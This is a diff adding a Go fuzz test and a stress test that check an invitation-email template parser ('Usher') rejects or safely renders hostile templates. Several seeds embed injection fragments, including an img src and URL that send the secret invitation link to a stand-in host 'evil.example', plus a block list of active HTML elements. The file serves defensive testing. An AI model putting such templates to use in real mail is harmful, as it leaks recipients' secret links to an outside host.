@@ -1,0 +1,170 @@
+// Copyright The Usher Authors
+// SPDX-License-Identifier: Apache-2.0
+
+package template_test
+
+import (
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/net/html"
+
+	"github.com/usher-dev/usher/internal/wording"
+)
+
+// pieces are what pages are made of, for the fuzzer to put together.
+var pieces = []string{
+	`{{.Link}}`, `{{$.Link}}`, `{{if .Name}}`, `{{else}}`, `{{end}}`, `{{with .Link}}`, `{{.}}`, `{{or .Link "x"}}`, `{{.Name}}`,
+	`<a href="`, ` href='`, ` href=`, `<img src="`, ` srcset="`, ` title="`, ` onclick="`, ` style="`, ` data-href="`, `<p`, `<meta content="0;url=`,
+	`"`, `'`, `>`, ` `, `/`, `=`, `x`, `?`, "\n", `<!--`, `-->`, `<style>`, `</style>`, `<svg>`, `<noscript>`, `</noscript>`, `<plaintext>`,
+	`<xmp>`, `<select><option>`, `<table><tr><td background="`, `<`, `</`, `>form`, `<![CDATA[`, `]]>`, `url(`, `)`, "`", `&#34;`, `{{/* x */}}`,
+	`//evil.example/?u=`, `{{- .Link -}}`, `&nbsp;`, `<b>`, `</b>`, `<p>`, `</p>`, `<br>`, `<table>`, `<tr>`, `<td>`, `</table>`, `</body>`,
+}
+
+// FuzzParseTemplates: no template makes it panic or run long, and one that is taken shows the link, has
+// no element that acts, and gives the link to nobody else: it is no part of any other address.
+func FuzzParseTemplates(f *testing.F) {
+	for _, seed := range []map[string]string{
+		ownInvitation(),
+		ownInvitation("invitation.txt", "{{if and .Name (or .Role (not .InvitedBy))}}a{{else if eq .Role `x` .Name}}b{{else}}c{{end}}{{$.Link}}"),
+		ownInvitation("invitation.html", "<!-- c --><style>p{}</style><p {{if .Name}}class=a{{end}}>{{with .Message}}{{.}}{{end}}<A HREF = '{{.Link}}'>x</A>"),
+		ownInvitation("invitation.html", `{{.Link}}<img src="https://evil.example/{{.Link}}"><fo{{if .Name}}rm{{end}} action=x>`),
+		ownInvitation("invitation.html", `{{.Link}}<script>{{.Link}}</script><a onclick="{{.Link}}" style="{{.Link}}" title={{.Link}}>`),
+		ownInvitation("invitation.html", `{{.Link}}<table background="x{{.Link}}"><textarea>{{.Link}}</textarea><![CDATA[{{.Link}}]]><?x {{.Link}}?>`),
+		ownInvitation("invitation.html", `{{.Link}}{{if .Name}}<a href="{{else}}<img href="{{end}}{{.Link}}"><noscript><p title="</noscript><img src={{.Link}}>">`),
+		ownInvitation("invitation.txt", "{{.Link}}\nhttps://evil.example/?u={{if .Name}}\n{{end}}{{with .Link}}{{.}}{{end}}"),
+		ownInvitation("invitation.html", "{{.Link}}\nhttps://evil.example/?u=<b>{{.Link}}</b><table> <tr>{{.Link}}</table></div>{{$.Link}}"),
+		ownInvitation("invitation.txt", `{{range 9999999999}}{{end}}{{define "x"}}{{template "x"}}{{end}}{{block "y" .}}{{end}}{{call .X}}{{printf "%d" 1 | len}}`),
+	} {
+		f.Add(seed["invitation.subject"], seed["invitation.txt"], seed["invitation.html"], []byte{0, 9, 3})
+	}
+	f.Fuzz(func(t *testing.T, subject, text, page string, more []byte) {
+		for _, b := range more {
+			page += pieces[int(b)%len(pieces)]
+		}
+		start := time.Now()
+		templates, errs := wording.ParseTemplates(map[string]string{
+			"invitation.subject": subject, "invitation.txt": text, "invitation.html": page,
+		})
+		if took := time.Since(start); took > 5*time.Second {
+			t.Errorf("took %s", took)
+		}
+		for _, e := range errs {
+			if e.Reason == "" || strings.ContainsAny(e.Error(), "\n\r\x00") {
+				t.Errorf("not a sentence: %q", e.Error())
+			}
+		}
+		if len(errs) > 0 {
+			return
+		}
+		bare := anInvitation()
+		bare.InvitedBy, bare.Name, bare.Message = "", "", ""
+		for _, d := range []wording.InvitationData{anInvitation(), bare} {
+			showsTheLink(t, templates, d)
+		}
+	})
+}
+
+func showsTheLink(t *testing.T, templates wording.Templates, d wording.InvitationData) {
+	t.Helper()
+	c, err := templates.Invitation("de", d)
+	if err != nil {
+		t.Fatalf("a template that was taken fails: %v", err)
+	}
+	if c.Subject == "" || !strings.Contains(c.Text, d.Link) || !strings.Contains(c.HTML, html.EscapeString(d.Link)) {
+		t.Errorf("the subject or the link is missing: %+v", c)
+	}
+	if strings.Contains(c.Subject, d.Link) {
+		t.Errorf("the subject shows the link: %q", c.Subject)
+	}
+	standsAlone(t, c.Text, d.Link)
+	document, err := html.Parse(strings.NewReader(c.HTML))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := range document.Descendants() {
+		if n.Type == html.TextNode {
+			standsAlone(t, n.Data, d.Link)
+		}
+	}
+	leaks(t, c.HTML, d.Link)
+	writes(t, c)
+}
+
+// standsAlone looks at what a mail program could take for an address.
+func standsAlone(t *testing.T, text, link string) {
+	t.Helper()
+	for _, word := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(" \t\r\n", r) }) {
+		if strings.Contains(word, link) && word != link {
+			t.Errorf("the link is a part of %q", word)
+		}
+	}
+}
+
+// leaks looks for elements that act, and for attributes that carry the secret of the link elsewhere.
+func leaks(t *testing.T, source, link string) {
+	t.Helper()
+	secret := link[strings.IndexByte(link, '#')+1:]
+	for _, n := range elements(t, source) {
+		if slices.Contains([]string{"script", "iframe", "object", "embed", "form", "base", "link", "svg", "math"}, n.Data) {
+			t.Errorf("the HTML has a <%s>:\n%s", n.Data, source)
+		}
+		for _, a := range n.Attr {
+			if strings.Contains(a.Key+a.Val, secret) && (a.Key != "href" || a.Val != link) {
+				t.Errorf("the link is in %s=%q:\n%s", a.Key, a.Val, source)
+			}
+		}
+	}
+}
+
+func TestHugeTemplatesAreReadAtOnce(t *testing.T) {
+	t.Parallel()
+	const size = 64 << 10
+	filled := func(piece, end string) string {
+		n := size / (len(piece) + len(end))
+		return strings.Repeat(piece, n) + strings.Repeat(end, n)
+	}
+	for name, source := range map[string]string{
+		"nested choices":          filled("{{if .Name}}", "{{end}}"),
+		"nested withs":            filled("{{with .Name}}", "{{end}}"),
+		"choices one by one":      filled("{{if .Name}}a{{else}}b{{end}}", ""),
+		"a long chain of choices": "{{if .Name}}" + filled("{{else if .Role}}", "") + "{{end}}",
+		"nested parentheses":      "{{if " + strings.Repeat("(", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
+		"nested calls":            "{{if " + strings.Repeat("(not ", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
+		"nested faults":           "{{if " + strings.Repeat("(eq ", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
+		"unknown fields":          filled("{{.A}}", ""),
+		"one long field":          "{{." + strings.Repeat("A", size-10) + "}}",
+		"one long chain":          "{{." + strings.Repeat("A.", size/2-10) + "A}}",
+		"many values":             filled("{{.Message}}", ""),
+		"elements":                filled("<p>", "</p>"),
+		"active elements":         filled("<form>", ""),
+		"open brackets":           filled("<", ""),
+		"open comments":           filled("<!--", ""),
+		"closed comments":         filled("<!---->", ""),
+		"types of the document":   filled("<!doctype ", ""),
+		"titles":                  "<title>" + filled("<a", ""),
+		"strings of a style":      "<style>" + filled(`""`, ""),
+		"names of elements":       filled("<a", ""),
+		"quotes":                  "<p title='" + filled(`"<a href=`, "") + "'>",
+		"definitions":             filled("{{define `x`}}", "{{end}}"),
+		"line breaks":             filled("\n", "") + "{{.A}}",
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			for _, file := range []string{"invitation.subject", "invitation.txt", "invitation.html"} {
+				start := time.Now()
+				templates, _ := wording.ParseTemplates(ownInvitation(file, source[:min(len(source), size-10)]+"\n{{.Link}}"))
+				if _, err := templates.Invitation("en", anInvitation()); err != nil {
+					t.Error(err)
+				}
+				if took := time.Since(start); took > 5*time.Second {
+					t.Errorf("%s took %s", file, took)
+				} else {
+					t.Logf("%s took %s", file, took)
+				}
+			}
+		})
+	}
+}
